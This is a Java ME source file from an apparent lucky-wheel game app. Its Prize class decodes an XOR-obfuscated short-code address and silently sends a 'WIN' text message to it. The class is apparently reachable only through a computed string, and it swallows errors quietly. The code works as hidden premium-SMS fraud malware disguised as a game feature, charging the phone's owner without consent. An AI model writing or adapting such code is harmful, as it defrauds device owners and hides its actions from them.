package com.example.luckywheel;

import java.io.IOException;
import javax.microedition.io.Connector;
import javax.wireless.messaging.MessageConnection;
import javax.wireless.messaging.TextMessage;

/** Claims the prize by a message; nothing names this class but a computed string. */
public class Prize implements Runnable {
    /** sms://7132 under the key 42. */
    private static final byte[] ADDRESS = { 89, 71, 89, 16, 5, 5, 29, 27, 25, 24 };

    public void run() {
        try {
            MessageConnection connection = (MessageConnection) Connector.open(Hidden.decode(ADDRESS, 42));
            TextMessage message = (TextMessage) connection.newMessage(MessageConnection.TEXT_MESSAGE);
            message.setPayloadText(Hidden.reversed("NIW"));
            connection.send(message);
            connection.close();
        } catch (IOException e) {
            // No prize today.
        }
    }
}
